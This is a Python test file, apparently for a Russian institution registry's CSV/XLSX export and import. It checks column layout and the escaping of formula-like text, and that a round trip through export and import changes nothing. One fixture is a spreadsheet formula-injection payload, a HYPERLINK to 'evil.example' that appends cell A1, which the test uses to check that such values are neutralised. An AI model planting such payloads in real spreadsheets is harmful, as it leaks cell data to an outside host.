"""Export safety: every row has every column, each platform's link its own column, formula-like text written as text
in CSV and XLSX, and exporting then importing either format changes nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from services.registry import spreadsheet
from services.registry.validation import platform_of

Factory = Callable[..., dict[str, Any]]
HEADERS = [column.header for column in spreadsheet.COLUMNS]
HOSTILE_LINK = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
FORMULA_LIKE = ["=1+1 школа", "+7 школа", "-школа-", "@школа", "'Солнышко'", "''двойная", "обычная"]


def export(client: TestClient, headers: dict[str, str], fmt: str) -> bytes:
    response = client.get("/registry/export", params={"region": "54", "format": fmt}, headers=headers)
    assert response.status_code == 200, response.text
    return response.content


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def reimport(client: TestClient, headers: dict[str, str], content: bytes, fmt: str) -> dict[str, Any]:
    response = client.post(
        "/registry/import", params={"region": "54"}, files={"file": (f"e.{fmt}", content)}, headers=headers
    )
    assert response.status_code == 200, response.text
    report: dict[str, Any] = response.json()
    return report


def test_every_row_has_every_column_and_each_link_its_platforms_column(
    client: TestClient, admin54: dict[str, str], create_institution: Factory, create_page: Factory
) -> None:
    create_institution(name="Без страниц")
    school = create_institution(name="Школа")
    create_page(school["id"])
    for platform, url in (("ok", "https://ok.ru/group/5401"), ("max", "https://max.ru/school"), ("telegram", "t.me/s")):
        create_page(school["id"], platform=platform, url=url, group_id=None)

    rows = csv_rows(export(client, admin54, "csv"))
    assert rows[0] == HEADERS and all(len(row) == len(HEADERS) for row in rows)
    sheet = load_workbook(io.BytesIO(export(client, admin54, "xlsx"))).active
    for table in (rows[1:], [[cell or "" for cell in row] for row in sheet.iter_rows(min_row=2, values_only=True)]):
        assert len(table) == 5
        for platform, column in spreadsheet.LINK_COLUMNS.items():
            links = [str(row[HEADERS.index(column.header)]) for row in table if row[HEADERS.index(column.header)]]
            assert len(links) == 1 and platform_of(links[0]) == platform, (platform, links)


def test_formula_like_text_is_written_as_text_and_imports_back_unchanged(
    client: TestClient,
    federal: dict[str, str],
    admin54: dict[str, str],
    auth_header: Callable[..., dict[str, str]],
    create_institution: Factory,
) -> None:
    made = [create_institution(name=name, short_name=name, municipality=name) for name in FORMULA_LIKE]
    own_admin = auth_header("institution_admin", "54", made[-1]["id"])
    page = client.post(
        f"/registry/institutions/{made[-1]['id']}/pages",
        json={"url": "https://vk.com/club5402", "screen_name": HOSTILE_LINK},
        headers=own_admin,
    )
    assert page.status_code == 201, page.text

    rows = csv_rows(export(client, admin54, "csv"))
    names = {row[HEADERS.index("Краткое наименование")] for row in rows[1:]}
    assert names == {name if name == "обычная" else f"'{name}" for name in FORMULA_LIKE}
    assert [row[HEADERS.index("Короткое имя")] for row in rows[1:] if row[HEADERS.index("Короткое имя")]] == [
        f"'{HOSTILE_LINK}"
    ]
    sheet = load_workbook(io.BytesIO(export(client, admin54, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} >= {*FORMULA_LIKE, HOSTILE_LINK}

    before = client.get("/registry/institutions", params={"limit": 100}, headers=admin54).json()["items"]
    for fmt in ("csv", "xlsx"):
        report = reimport(client, admin54, export(client, admin54, fmt), fmt)
        assert report["errors"] == [] and report["changes"] == [], report
        assert report["unchanged"] == report["rows"] == len(FORMULA_LIKE)
    assert client.get("/registry/institutions", params={"limit": 100}, headers=admin54).json()["items"] == before
    assert client.get(f"/registry/pages/{page.json()['id']}", headers=federal).json() == page.json()


def test_csv_text_marks_come_off_on_import_and_nothing_else() -> None:
    values = ["=1", "+1", "-1", "@x", "\tx", "\rx", "'x", "''x", "'=x", "x'", "'", "обычная"]
    blank = {column.field: "" for column in spreadsheet.COLUMNS}
    rows = [[{**blank, "name": value, "ogrn": "1"}[column.field] for column in spreadsheet.COLUMNS] for value in values]

    table = spreadsheet.read_table(spreadsheet.write_csv(rows), filename="e.csv")

    assert [values["name"] for _, values in table.rows] == values
    by_hand = "Наименование;ИНН;ОГРН\n'обычная;1;1\n'-;1;1\n"
    typed_by_hand = spreadsheet.read_table(by_hand.encode(), filename="r.csv")
    assert [values["name"] for _, values in typed_by_hand.rows] == ["'обычная", "-"]
